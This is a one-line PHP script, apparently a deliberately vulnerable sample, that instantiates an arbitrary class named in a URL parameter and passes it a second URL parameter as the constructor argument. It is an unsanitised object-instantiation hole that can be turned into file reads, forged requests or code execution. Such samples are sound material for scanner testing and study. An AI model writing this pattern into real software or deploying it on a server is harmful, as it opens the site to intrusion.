<?php $t = $_GET["t"]; $cl = new $t($_GET["a"]); ?>
